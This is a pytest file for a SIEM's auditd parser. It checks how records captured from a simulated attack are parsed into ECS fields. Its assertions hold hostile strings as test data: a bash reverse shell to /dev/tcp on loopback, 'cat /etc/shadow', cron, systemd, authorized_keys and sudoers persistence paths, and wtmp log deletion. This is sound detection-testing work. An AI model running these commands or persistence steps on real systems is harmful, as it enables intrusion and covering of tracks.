"""The auditd parser: records of one event joined and mapped to ECS.

tests/data/auditd/capture.log was written by a real auditd (tests/data/auditd/capture.py): an attack
scenario (reverse shells, cron / systemd / authorized_keys persistence, sudoers, log tampering) plus
logins, sudo and account records sent to the kernel as libaudit sends them.
"""

from __future__ import annotations

import itertools
from pathlib import Path

import pytest

from siem.parse import parse
from siem.parse.auditd import event_id, is_standalone, parse_auditd
from siem.parse.base import ParseContext

DATA = Path(__file__).parent / "data" / "auditd" / "capture.log"
CTX = ParseContext(host="web01", now_ms=0)


def _events() -> list[dict]:
    lines = [ln for ln in DATA.read_text("utf-8").split("\n") if ln]
    return [parse_auditd("\n".join(g), CTX) for _, g in itertools.groupby(lines, key=event_id)]


@pytest.fixture(scope="module")
def events() -> list[dict]:
    return _events()


def _one(events: list[dict], **want: object) -> dict:
    got = [e for e in events if all(e.get(k.replace("__", ".")) == v for k, v in want.items())]
    assert len(got) >= 1, f"no event with {want}"
    return got[0]


def test_every_captured_event_parses(events: list[dict]) -> None:
    assert len(events) > 50
    assert [e["error.message"] for e in events if "error.message" in e] == []
    assert all(e["event.dataset"] == "auditd" and e["host.name"] == "web01" for e in events)


def test_execve_event_joins_syscall_execve_cwd_path_proctitle(events: list[dict]) -> None:
    ev = _one(events, process__name="bash", process__command_line="bash -c bash -i >& /dev/tcp/127.0.0.1/9 0>&1")
    assert ev["auditd.types"][:3] == ["SYSCALL", "BPRM_FCAPS", "EXECVE"] and ev["auditd.types"][-1] == "PROCTITLE"
    assert ev["event.action"] == "execve" and ev["event.category"] == "process" and ev["event.type"] == "start"
    assert ev["event.outcome"] == "success"
    assert ev["process.args"] == ["bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/9 0>&1"]  # a2 was hex-encoded
    assert ev["process.args_count"] == 3
    assert ev["process.executable"] == "/usr/bin/bash"
    assert ev["process.working_directory"] == "/root"
    assert isinstance(ev["process.pid"], int) and isinstance(ev["process.parent.pid"], int)
    assert ev["user.id"] == "0" and ev["user.name"] == "root"  # ENRICHED UID=
    assert ev["user.audit.id"] == "4242" and "user.audit.name" not in ev  # unknown(4242) is not a name
    assert ev["auditd.key"] == "exec" and ev["auditd.syscall"] == "execve" and ev["auditd.arch"] == "x86_64"
    assert ev["auditd.session"].isdigit()
    assert ev["file.path"] == "/usr/bin/bash"  # item 0, not the loader
    seconds, ms = event_id(ev["event.original"]).split(":")[0].split(".")
    assert ev["@timestamp"] == int(seconds) * 1000 + int(ms)


def test_connect_decodes_the_socket_address(events: list[dict]) -> None:
    ev = _one(events, event__action="connect", destination__ip="127.0.0.1", process__name="python3")
    assert ev["destination.port"] == 9 and ev["event.outcome"] == "failure" and ev["network.type"] == "ipv4"
    unix = _one(events, event__action="connect", auditd__socket__path="/var/run/nscd/socket")
    assert "destination.ip" not in unix


@pytest.mark.parametrize(("path", "kind"), [
    ("/etc/cron.d/siem-persist", "creation"), ("/root/.ssh/authorized_keys", "creation"),
    ("/etc/systemd/system/siem-backdoor.service", "creation"), ("/etc/sudoers.d/90-attacker", "creation"),
    ("/var/log/wtmp", "deletion"),
])
def test_file_writes_name_the_object_not_its_parent(events: list[dict], path: str, kind: str) -> None:
    ev = _one(events, file__path=path, event__type=kind)
    assert ev["event.category"] == "file" and ev["auditd.key"] == "file_write"


def test_mkdirat_relative_name_is_joined_to_its_parent_directory(events: list[dict]) -> None:
    ev = _one(events, event__action="mkdir", file__path="/etc/sudoers.d")
    assert ev["event.type"] == "creation"


def test_user_space_records(events: list[dict]) -> None:
    fail = _one(events, event__action="user_auth", event__outcome="failure")
    assert fail["user.name"] == "root" and fail["source.ip"] == "203.0.113.9" and fail["event.category"] == "authentication"
    assert fail["process.executable"] == "/usr/sbin/sshd" and fail["auditd.terminal"] == "ssh"
    assert fail["process.user.name"] == "root" and "user.id" not in fail
    login = _one(events, event__action="user_login", event__outcome="success")
    assert login["user.id"] == "1000" and login["source.ip"] == "198.51.100.7" and login["event.type"] == "start"
    cmd = _one(events, event__action="user_cmd")
    assert cmd["process.command_line"] == "/usr/bin/cat /etc/shadow"  # cmd= is hex
    assert cmd["process.working_directory"] == "/home/alice"
    mgmt = _one(events, event__action="user_mgmt")
    assert mgmt["auditd.op"] == "adding user" and mgmt["user.target.id"] == "1001" and mgmt["event.category"] == "iam"
    assert _one(events, event__action="service_start")["auditd.data.unit"] == "siem-backdoor"


def test_config_change_with_its_syscall_is_a_configuration_event(events: list[dict]) -> None:
    ev = _one(events, event__action="config_change", auditd__key="exec")
    assert ev["auditd.op"] == "add_rule" and ev["event.category"] == "configuration"
    assert ev["process.name"] == "auditctl" and ev["auditd.syscall"] == "sendto"


def test_login_record_sets_the_session(events: list[dict]) -> None:
    ev = _one(events, event__action="login")
    assert ev["auditd.auid"] == "4242" and ev["event.category"] == "session"


# --- hand-made records: shapes the capture does not show --------------------------------------------

def test_proctitle_only_hex_with_nul_separators_and_no_enrichment() -> None:
    title = "/bin/sh\0-c\0echo hi".encode().hex().upper()
    text = (
        "type=SYSCALL msg=audit(1700000000.123:456): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 "
        'auid=1000 uid=1000 gid=1000 euid=0 ses=3 comm="sh" exe="/usr/bin/dash" key=(null)\n'
        f"type=PROCTITLE msg=audit(1700000000.123:456): proctitle={title}")
    ev = parse_auditd(text, CTX)
    assert ev["@timestamp"] == 1700000000123 and ev["auditd.serial"] == "456"
    assert ev["auditd.syscall"] == "execve"  # syscall 59 on x86_64, without ENRICHED SYSCALL=
    assert ev["process.title"] == ev["process.command_line"] == "/bin/sh -c echo hi"
    assert ev["user.id"] == "1000" and "user.name" not in ev and ev["user.effective.id"] == "0"
    assert "auditd.key" not in ev


def test_long_execve_argument_in_pieces_and_hex_cwd() -> None:
    text = (
        "type=SYSCALL msg=audit(1700000001.5:9): arch=c000003e syscall=59 success=no exit=-13 pid=5 ppid=4 uid=0 "
        'comm="x" exe="/x"\n'
        'type=EXECVE msg=audit(1700000001.5:9): argc=2 a0="x" a1_len=10 a1[0]=6162636465 a1[1]="fghij"\n'
        f"type=CWD msg=audit(1700000001.5:9): cwd={'/tmp/a b'.encode().hex()}")
    ev = parse_auditd(text, CTX)
    assert ev["@timestamp"] == 1700000001500
    assert ev["process.args"] == ["x", "abcdefghij"] and ev["event.outcome"] == "failure"
    assert ev["process.working_directory"] == "/tmp/a b"


def test_node_prefix_names_the_host_and_several_keys() -> None:
    keys = "persist\x01cron".encode().hex()
    ev = parse_auditd(f"node=db7 type=SYSCALL msg=audit(1700000002.000:1): syscall=257 success=yes key={keys}", CTX)
    assert ev["host.name"] == "db7" and ev["auditd.key"] == "persist" and ev["auditd.keys"] == ["persist", "cron"]
    assert ev["event.action"] == "openat"


def test_bad_input_is_kept_and_named() -> None:
    ev = parse("auditd", b"this is not audit", CTX, "t")
    assert ev["event.original"] == "this is not audit" and "no audit record" in ev["error.message"]
    mixed = parse_auditd("type=USER_LOGIN msg=audit(1.000:1): res=success\n"
                         "type=USER_LOGIN msg=audit(1.000:2): res=failed\ngarbage", CTX)
    assert "line 2: record of event 1.000:2 mixed into event 1.000:1" in mixed["error.message"]
    assert "line 3: not an audit record" in mixed["error.message"]
    assert mixed["event.outcome"] == "success"


@pytest.mark.parametrize("junk", [
    b"type=SYSCALL msg=audit(1.1:1): a0=zz a1= name=abc proctitle=ABC saddr=0",
    b"type=SOCKADDR msg=audit(1.1:1): saddr=0A00", b"type=PATH msg=audit(1.1:1): name=(null) item=x",
    b"type=EXECVE msg=audit(1.1:1): argc=x a0_len=3", "type=X msg=audit(1.1:1): \u202e\x1b[2J".encode(),
    b"\xff\xfe type=SYSCALL msg=audit(", b"type=SYSCALL msg=audit(99999999999999999999.1:1): ",
])
def test_adversarial_records_never_raise(junk: bytes) -> None:
    ev = parse("auditd", junk, CTX, "t")
    assert ev["event.dataset"] == "auditd" and "auditd parser failed" not in str(ev.get("error.message"))


def test_standalone_types() -> None:
    assert is_standalone("USER_LOGIN") and is_standalone("ADD_USER") and is_standalone("CRED_ACQ")
    assert is_standalone("SERVICE_START") and is_standalone("DAEMON_START")
    assert not is_standalone("SYSCALL") and not is_standalone("PATH") and not is_standalone("AVC")
